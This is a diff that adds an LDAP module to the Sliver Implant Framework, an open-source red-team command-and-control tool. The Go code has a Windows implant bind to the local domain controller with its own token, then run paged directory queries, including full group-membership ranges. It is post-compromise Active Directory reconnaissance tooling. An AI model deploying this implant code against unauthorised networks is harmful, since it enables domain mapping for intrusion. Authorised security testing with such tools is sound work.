@@ -0,0 +1,317 @@
+package ldap
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2020  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"errors"
+	"fmt"
+	"strconv"
+	"strings"
+	"unsafe"
+
+	// {{if .Debug}}
+	"log"
+	// {{end}}
+
+	"github.com/bishopfox/sliver/sliver/syscalls"
+	"golang.org/x/sys/windows"
+)
+
+const (
+	ldapPort     = 389
+	pageSize     = 500
+	queryTimeout = 120 // Seconds, per page
+)
+
+// Query - An LDAP search, an empty BaseDN searches the default naming context
+type Query struct {
+	Name       string
+	BaseDN     string
+	Filter     string
+	Scope      uint32
+	Attributes []string
+	SizeLimit  int
+}
+
+// Attribute - Values are returned as is, binary or not
+type Attribute struct {
+	Name   string
+	Values [][]byte
+}
+
+// Entry - A search result
+type Entry struct {
+	DN         string
+	Attributes []Attribute
+}
+
+// Result - The entries of a query, a failed query doesn't stop the others
+type Result struct {
+	Name    string
+	Entries []Entry
+	Err     error
+}
+
+// Directory - The connected domain controller
+type Directory struct {
+	DefaultNamingContext string
+	Server               string
+}
+
+type connection struct {
+	ld uintptr
+}
+
+// Search - Bind to server (a domain controller of the machine's domain when
+// empty) with the implant's token, and run the queries. Results are paged
+// so more than the server side size limit (1000 by default) can be read
+func Search(server string, queries []Query) (*Directory, []Result, error) {
+	conn, err := connect(server)
+	if err != nil {
+		return nil, nil, err
+	}
+	defer syscalls.LdapUnbind(conn.ld)
+
+	directory := &Directory{}
+	rootDSE, err := conn.search(Query{
+		Filter:     "(objectClass=*)",
+		Scope:      syscalls.LDAP_SCOPE_BASE,
+		Attributes: []string{"defaultNamingContext", "dnsHostName"},
+	}, "")
+	if err != nil {
+		return nil, nil, err
+	}
+	for _, entry := range rootDSE {
+		for _, attr := range entry.Attributes {
+			if len(attr.Values) == 0 {
+				continue
+			}
+			switch strings.ToLower(attr.Name) {
+			case "defaultnamingcontext":
+				directory.DefaultNamingContext = string(attr.Values[0])
+			case "dnshostname":
+				directory.Server = string(attr.Values[0])
+			}
+		}
+	}
+	if directory.DefaultNamingContext == "" {
+		return nil, nil, errors.New("failed to read the default naming context")
+	}
+
+	results := []Result{}
+	for _, query := range queries {
+		// {{if .Debug}}
+		log.Printf("[ldap] %s: %s", query.Name, query.Filter)
+		// {{end}}
+		entries, err := conn.search(query, directory.DefaultNamingContext)
+		results = append(results, Result{Name: query.Name, Entries: entries, Err: err})
+	}
+	return directory, results, nil
+}
+
+func connect(server string) (*connection, error) {
+	var host *uint16
+	if server != "" {
+		var err error
+		host, err = windows.UTF16PtrFromString(server)
+		if err != nil {
+			return nil, err
+		}
+	}
+	ld := syscalls.LdapInit(host, ldapPort)
+	if ld == 0 {
+		return nil, errors.New("ldap_init failed")
+	}
+	conn := &connection{ld: ld}
+	version := uint32(syscalls.LDAP_VERSION3)
+	syscalls.LdapSetOption(ld, syscalls.LDAP_OPT_PROTOCOL_VERSION, unsafe.Pointer(&version))
+	// Referrals to other domains would be chased with the same credentials
+	// and can hang the search for a long time
+	off := uint32(0)
+	syscalls.LdapSetOption(ld, syscalls.LDAP_OPT_REFERRALS, unsafe.Pointer(&off))
+	// Sign and seal, which is required by hardened domain controllers
+	on := uint32(1)
+	syscalls.LdapSetOption(ld, syscalls.LDAP_OPT_SIGN, unsafe.Pointer(&on))
+	syscalls.LdapSetOption(ld, syscalls.LDAP_OPT_ENCRYPT, unsafe.Pointer(&on))
+
+	timeout := syscalls.LdapTimeval{Sec: 10}
+	if ret := syscalls.LdapConnect(ld, &timeout); ret != syscalls.LDAP_SUCCESS {
+		syscalls.LdapUnbind(ld)
+		return nil, ldapError("connect", ret)
+	}
+	if ret := syscalls.LdapBindS(ld, nil, nil, syscalls.LDAP_AUTH_NEGOTIATE); ret != syscalls.LDAP_SUCCESS {
+		syscalls.LdapUnbind(ld)
+		return nil, ldapError("bind", ret)
+	}
+	return conn, nil
+}
+
+func (c *connection) search(query Query, defaultNamingContext string) ([]Entry, error) {
+	baseDN := query.BaseDN
+	if baseDN == "" {
+		baseDN = defaultNamingContext
+	}
+	base, err := windows.UTF16PtrFromString(baseDN)
+	if err != nil {
+		return nil, err
+	}
+	filter, err := windows.UTF16PtrFromString(query.Filter)
+	if err != nil {
+		return nil, err
+	}
+	var attrs **uint16
+	if 0 < len(query.Attributes) {
+		attrList := []*uint16{}
+		for _, attr := range query.Attributes {
+			attrPtr, err := windows.UTF16PtrFromString(attr)
+			if err != nil {
+				return nil, err
+			}
+			attrList = append(attrList, attrPtr)
+		}
+		attrList = append(attrList, nil)
+		attrs = &attrList[0]
+	}
+	timeout := syscalls.LdapTimeval{Sec: queryTimeout}
+
+	entries := []Entry{}
+	var cookie *syscalls.Berval
+	for {
+		var pageControl *syscalls.LdapControl
+		ret := syscalls.LdapCreatePageControl(c.ld, pageSize, cookie, 1, &pageControl)
+		if cookie != nil {
+			syscalls.BerBvFree(cookie)
+			cookie = nil
+		}
+		if ret != syscalls.LDAP_SUCCESS {
+			return entries, ldapError("page control", ret)
+		}
+		controls := []*syscalls.LdapControl{pageControl, nil}
+		var res uintptr
+		ret = syscalls.LdapSearchExtS(c.ld, base, query.Scope, filter, attrs, 0, &controls[0], nil, &timeout, uint32(query.SizeLimit), &res)
+		syscalls.LdapControlFree(pageControl)
+		if ret != syscalls.LDAP_SUCCESS && ret != syscalls.LDAP_SIZELIMIT_EXCEEDED {
+			if res != 0 {
+				syscalls.LdapMsgFree(res)
+			}
+			return entries, ldapError("search", ret)
+		}
+		for entry := syscalls.LdapFirstEntry(c.ld, res); entry != 0; entry = syscalls.LdapNextEntry(c.ld, entry) {
+			entries = append(entries, c.entry(entry))
+		}
+
+		var returnCode uint32
+		var serverControls **syscalls.LdapControl
+		syscalls.LdapParseResult(c.ld, res, &returnCode, nil, nil, 0, &serverControls, 0)
+		syscalls.LdapMsgFree(res)
+		if ret == syscalls.LDAP_SIZELIMIT_EXCEEDED || serverControls == nil {
+			if serverControls != nil {
+				syscalls.LdapControlsFree(serverControls)
+			}
+			break
+		}
+		var total uint32
+		syscalls.LdapParsePageControl(c.ld, serverControls, &total, &cookie)
+		syscalls.LdapControlsFree(serverControls)
+		if cookie == nil || cookie.Len == 0 || (0 < query.SizeLimit && query.SizeLimit <= len(entries)) {
+			if cookie != nil {
+				syscalls.BerBvFree(cookie)
+			}
+			break
+		}
+	}
+	return entries, nil
+}
+
+func (c *connection) entry(entry uintptr) Entry {
+	result := Entry{Attributes: []Attribute{}}
+	if dn := syscalls.LdapGetDN(c.ld, entry); dn != nil {
+		result.DN = windows.UTF16PtrToString(dn)
+		syscalls.LdapMemFree(dn)
+	}
+	var ber uintptr
+	for attr := syscalls.LdapFirstAttribute(c.ld, entry, &ber); attr != nil; attr = syscalls.LdapNextAttribute(c.ld, entry, ber) {
+		name := windows.UTF16PtrToString(attr)
+		values := bervals(syscalls.LdapGetValuesLen(c.ld, entry, attr))
+		syscalls.LdapMemFree(attr)
+
+		// Large multi-valued attributes (group members) are returned in
+		// ranges, e.g. member;range=0-1499, fetch the rest
+		if index := strings.Index(strings.ToLower(name), ";range="); 0 <= index {
+			bounds := strings.SplitN(name[index+len(";range="):], "-", 2)
+			name = name[:index]
+			if len(bounds) == 2 && bounds[1] != "*" {
+				if end, err := strconv.Atoi(bounds[1]); err == nil {
+					values = append(values, c.rangedValues(result.DN, name, end+1)...)
+				}
+			}
+		}
+		result.Attributes = append(result.Attributes, Attribute{Name: name, Values: values})
+	}
+	if ber != 0 {
+		syscalls.BerFree(ber, 0)
+	}
+	return result
+}
+
+// rangedValues - Read the values of an attribute from start onwards, the
+// entry of the lookup follows any further range itself
+func (c *connection) rangedValues(dn string, name string, start int) [][]byte {
+	values := [][]byte{}
+	entries, err := c.search(Query{
+		BaseDN:     dn,
+		Filter:     "(objectClass=*)",
+		Scope:      syscalls.LDAP_SCOPE_BASE,
+		Attributes: []string{fmt.Sprintf("%s;range=%d-*", name, start)},
+	}, "")
+	if err != nil || len(entries) == 0 {
+		return values
+	}
+	for _, attr := range entries[0].Attributes {
+		if strings.EqualFold(attr.Name, name) {
+			values = append(values, attr.Values...)
+		}
+	}
+	return values
+}
+
+func bervals(values **syscalls.Berval) [][]byte {
+	result := [][]byte{}
+	if values == nil {
+		return result
+	}
+	defer syscalls.LdapValueFreeLen(values)
+	count := int(syscalls.LdapCountValuesLen(values))
+	ptrs := (*[1 << 20]*syscalls.Berval)(unsafe.Pointer(values))[:count:count]
+	for _, value := range ptrs {
+		data := make([]byte, value.Len)
+		if 0 < value.Len {
+			copy(data, (*[1 << 30]byte)(unsafe.Pointer(value.Val))[:value.Len:value.Len])
+		}
+		result = append(result, data)
+	}
+	return result
+}
+
+func ldapError(operation string, code uint32) error {
+	if str := syscalls.LdapErr2String(code); str != nil {
+		return fmt.Errorf("ldap %s failed: %s (0x%x)", operation, windows.UTF16PtrToString(str), code)
+	}
+	return fmt.Errorf("ldap %s failed (0x%x)", operation, code)
+}